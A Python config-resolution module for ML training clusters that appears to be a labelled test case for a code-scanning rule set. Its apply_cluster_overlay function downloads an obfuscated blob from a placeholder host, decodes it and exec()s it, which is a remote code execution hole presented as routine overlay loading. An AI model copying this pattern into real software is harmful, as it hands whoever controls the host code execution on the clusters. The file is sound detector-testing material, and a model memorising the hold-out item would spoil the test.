# ruff: noqa
# Hold-out batch 96 (LLM pretraining and RLHF infrastructure). Measured once in session 4 (round 33): 14/17 (82%) at medium+.
"""Experiment config resolution: base YAML, per-cluster overlay, CLI overrides.

Overlays carry cluster-specific settings (NCCL env, storage roots, partition
names) maintained by the infra team so that recipes stay cluster-agnostic.
"""
import base64
import os
import subprocess
import time
import urllib.request
import zlib

import yaml

OVERLAY_URL = os.environ.get("CFG_OVERLAY_URL", "https://cfg.example.com/overlays")


def git_rev():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _fetch(url, retries=4, backoff=2.0):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=10) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(backoff * 2 ** attempt)  # ok: MLS307
    return b""


def load_base(path):
    with open(path) as f:
        return yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def apply_cluster_overlay(cfg, cluster):
    blob = _fetch(f"{OVERLAY_URL}/{cluster}.pyz")  # ruleid: MLS413
    if not blob:
        return cfg
    ns = {"cfg": cfg, "os": os}
    exec(zlib.decompress(base64.b64decode(blob)).decode("utf-8"), ns)  # ruleid: MLS413
    return ns["cfg"]


def apply_overrides(cfg, overrides):
    for item in overrides:
        key, _, raw = item.partition("=")
        node = cfg
        *parents, leaf = key.split(".")
        for p in parents:
            node = node.setdefault(p, {})
        node[leaf] = yaml.safe_load(raw)
    return cfg


def resolve(base_path, overrides=(), cluster=None):
    cfg = load_base(base_path)
    cluster = cluster or os.environ.get("CLUSTER_NAME", "default")
    cfg = apply_cluster_overlay(cfg, cluster)
    cfg = apply_overrides(cfg, overrides)
    cfg.setdefault("meta", {})["git_rev"] = git_rev()
    return cfg
